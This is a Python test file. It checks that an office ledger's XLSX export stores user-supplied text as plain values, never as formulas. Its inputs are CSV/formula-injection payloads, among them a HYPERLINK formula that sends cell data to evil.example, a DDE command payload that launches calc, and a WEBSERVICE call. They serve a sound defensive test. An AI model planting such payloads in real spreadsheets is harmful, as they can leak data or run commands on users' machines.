"""Attacks on the office's web view from what laptops push and from the office's own records."""

from __future__ import annotations

import io

from archive.office.ledger import LedgerRow, ledger_xlsx


def test_ledger_xlsx_never_turns_pushed_text_into_a_formula() -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    row = LedgerRow(case_id="c1", institution=evil, kind="+cmd|' /C calc'!A0", title="-2+3", visit="@SUM(1)",
                    registered="2026-01-01", team="=1+1", findings=1, amount_fen=100, decided_fen=0,
                    returned_fen=0, handling="=WEBSERVICE(\"http://x\")", stage="立案")
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(ledger_xlsx([row]))).active
    cells = [c for r in ws.iter_rows(min_row=2, max_row=2) for c in r]
    assert cells[0].value == evil
    assert all(c.data_type != "f" for c in cells), [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
